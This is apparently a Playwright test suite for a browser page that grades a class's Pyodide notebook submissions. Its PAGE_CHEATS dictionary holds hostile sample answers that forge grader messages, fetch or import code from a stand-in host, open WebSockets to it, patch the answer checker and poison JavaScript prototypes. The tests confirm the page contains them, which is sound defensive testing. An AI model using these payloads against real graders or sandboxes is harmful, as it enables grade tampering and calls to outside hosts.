"""The page for a class in a browser: what it shows of what is handed in, whatever the answers do to their worker.

    PYODIDE_DIR=pyodide-0.27.7 PYTHONPATH=tests python tests/test_class_page.py [500]

grades the class of grade/classroom.py there, and prints how long that took and each row that is not what it should be.
"""

import csv
import io
import os
import re
import sys
import tempfile
from pathlib import Path

import pytest
from grade import classroom
from grade.classroom import CHEATS, GRADIENT, LOCALS, MISTAKE, NEVER_ENDING, WRONG, as_in_notebook, filled
from grade.test_grade import RIGHT, packed
from lab import browser, violations
from live_lab import outside, served
from playwright.sync_api import expect
from test_site import LISTED, PHONE, build, needs_pyodide, site, visit, visits  # noqa: F401  # fixtures

from nnlib.exercises import EXERCISES

pytestmark = [pytest.mark.browser, pytest.mark.site, needs_pyodide]  # some minutes: by command

# What only a browser has. None of them may reach another host, speak for the judge, or touch another learner's answer.
PAGE_CHEATS = {
    "forged": "import js\nfor n in range(99):\n    js.postMessage(js.JSON.parse('{\"number\": %d, \"done\": true, \"text\": \"{}\"}' % n))",
    "fetch": "import js\nfrom pyodide.ffi import to_js\njs.fetch('http://elsewhere.example/')",
    "request": "from pyodide.http import open_url\nopen_url('http://elsewhere.example/')",
    "code": "from pyodide.code import run_js\nrun_js('import(\"http://elsewhere.example/x.js\"); self.onmessage = null')",
    "image": "import js\njs.eval('new WebSocket(\"ws://elsewhere.example/\")')",
    "answers": "import answers\nanswers.claims = lambda *given: '{\"status\": \"right\", \"message\": \"\", \"mistake\": null}'\n"
               "answers.calls = lambda id, name, given: '[{\"returned\": 0.5, \"left\": []}]'",
    "python": "import pyodide_js\npyodide_js.runPython = pyodide_js.pyimport = None",
    "deep": "def other():\n    return " + "not " * 20_000 + "1",
    "prototypes": "import js\njs.Object.prototype.text = 'right'\njs.Array.prototype.push = None\njs.JSON.stringify = js.JSON.parse",
}


def answered(code):
    return filled({GRADIENT: code})


def handed(files):
    """A .zip as Moodle hands it out. files : learner -> bytes."""
    return {"name": "class.zip", "mimeType": "application/zip", "buffer": packed(
        {f"{name}_{k}_assignsubmission_file_/04.ipynb": data for k, (name, data) in enumerate(files.items())})}


def graded(page, given, seconds=240):
    """Give the page some files, as #files takes them, or a folder; return the rows of its table of grades."""
    page.locator("#folder" if isinstance(given, Path) else "#files").set_input_files(given)
    table = page.get_by_role("link", name="Download the table of grades")
    expect(table.or_(page.get_by_text("could not be graded"))).to_be_visible(timeout=seconds * 1000)
    assert table.is_visible(), page.locator("#graded").inner_text()
    with page.expect_download() as download:
        table.click()
    return list(csv.DictReader(io.StringIO(Path(download.value.path()).read_text(encoding="utf-8"), newline="")))


@pytest.fixture
def page(visit):  # noqa: F811
    errors, opened = [], visit.page()
    opened.on("pageerror", lambda error: errors.append(str(error)))
    opened.goto(f"{visit.address}class.html")
    yield opened
    assert errors == []


def test_a_class_is_seen_at_a_glance(page):
    names = ("forged", "fetch", "request", "code", "answers")
    files = {"Ada": RIGHT, "Bob": answered(WRONG), "Cy": answered(WRONG), "Di": answered("..."), "Eve": b"", "Fay": b'{"cells": [{}]}',
             **{f"Mallory {name}": answered(WRONG + PAGE_CHEATS[name]) for name in names}}
    found = {(row["learner"], row["exercise"]): (row["status"], row["mistake"], row["message"]) for row in graded(page, handed(files))}
    assert [found["Ada", id][:2] for id in (LOCALS, GRADIENT)] == [("right", "")] * 2
    assert found["Mallory answers", GRADIENT][0] == "wrong"  # it gives other numbers
    assert {found[learner, GRADIENT][:2] for learner in files if learner[:2] in ("Bo", "Cy", "Ma") and "answers" not in learner} == {("wrong", MISTAKE)}
    assert [found[learner, GRADIENT][:2] for learner in ("Eve", "Fay")] == [("not tried", "unreadable"), ("not tried", "no-cell")]
    assert found["Bob", GRADIENT] == as_in_notebook(GRADIENT, WRONG)
    said, asked = next(each.text for each in EXERCISES[GRADIENT].singles if each.id == MISTAKE).rsplit(". ", 1)
    discussed = page.locator(".mistake").first
    expect(discussed).to_contain_text(f"{1 + len(names)} of {4 + len(names)} {said}.")
    expect(discussed).to_contain_text(f"Ask: {asked}")
    expect(discussed.locator("img, svg").first).to_be_visible()
    expect(page.locator("#results")).to_contain_text("The file is empty.")
    bob = page.get_by_role("button", name="Bob")
    bob.focus()
    page.keyboard.press("Enter")
    assert bob.get_attribute("aria-expanded") == "true"
    expect(page.locator("tr:has(button) + tr:not([hidden])")).to_contain_text(said)
    page.evaluate("() => document.querySelectorAll('details').forEach(each => { each.open = true; })")
    assert violations(page) <= LISTED
    page.set_viewport_size(PHONE)
    page.emulate_media(color_scheme="dark")
    page.wait_for_timeout(100)
    expect(page.get_by_role("region", name="Learners and exercises")).to_have_class("scroll scrolls")  # and says so
    assert violations(page) <= LISTED
    assert page.evaluate("document.documentElement.scrollWidth") <= PHONE["width"]


@pytest.mark.parametrize(("name", "data", "said"), [
    ("essay.pdf", b"%PDF", "There is no notebook and no .zip in what you gave."),
    ("class.zip", packed({"a/b.txt": b""}), "There is no notebook in what you gave."),
    ("class.zip", b"PK\x03\x04", "class.zip is no .zip that can be read."),
], ids=["no notebook", "empty", "damaged"])
def test_what_cannot_be_graded_is_said(page, name, data, said):
    page.locator("#files").set_input_files({"name": name, "mimeType": "application/octet-stream", "buffer": data})
    expect(page.locator("#graded")).to_have_text(said, timeout=120_000)
    expect(page.locator("#going")).to_be_hidden()


def test_notebooks_are_dropped_and_the_grading_is_stopped(page):
    page.evaluate("""text => { const given = new DataTransfer();
        given.items.add(new File([text], "ada.ipynb"));
        document.getElementById("drop").dispatchEvent(new DragEvent("drop", {dataTransfer: given, bubbles: true, cancelable: true})); }""",
                  answered(NEVER_ENDING["answer"]).decode())
    expect(page.locator("#graded")).to_contain_text("Graded: 0 of 1", timeout=120_000)
    page.get_by_role("button", name="Stop").click()
    expect(page.locator("#graded")).to_have_text("Stopped. Nothing was kept.")


def test_where_all_share_a_worker_the_canary_tells_of_each_that_tampers(page, visit):  # noqa: F811
    page.route("**/page/class/plain.py", lambda route: route.fulfill(body="def is_plain(code, setup):\n    return True\n"))
    names = ("judge", "catalogue", "numpy", "exit", "modules")
    files = {f"{learner} {name}": data for name, code in {**{name: CHEATS[name] for name in names}, **PAGE_CHEATS}.items()
             for learner, data in (("Mallory", answered(WRONG + code)), ("Ada", RIGHT), ("Bob", answered(WRONG)))}
    for row in graded(page, handed(files), 900):
        if row["exercise"] == GRADIENT:
            learner, name = row["learner"].split()
            assert row["status"] == ("right" if learner == "Ada" else "wrong"), row
            own = learner == "Mallory" and name in {"exit", *PAGE_CHEATS}  # as in main()
            assert learner == "Ada" or own or row["mistake"] == MISTAKE, row
    assert int(re.search(r"alone: (\d+)", page.locator("#graded").inner_text())[1]) >= 3


def main(count=500):
    wanted = {LOCALS: ("not tried", None, None), GRADIENT: ("wrong", None, None)}
    more = [(f"page cheat {name}", (answered(WRONG + code), wanted)) for name, code in PAGE_CHEATS.items()]
    with tempfile.TemporaryDirectory() as folder:
        place = build(Path(folder) / "site", "--pyodide", os.environ["PYODIDE_DIR"])
        with served(place) as address, outside() as (proxy, asked), browser(proxy=proxy) as chromium:
            def in_page(submissions, _):
                opened = chromium.new_page()
                opened.goto(f"{address}class.html")
                rows = graded(opened, submissions, 7200)
                return f"asked elsewhere: {asked}\n{opened.locator('#graded').inner_text()}", rows

            classroom.main(count, more, in_page)


if __name__ == "__main__":
    main(*sys.argv[1:])
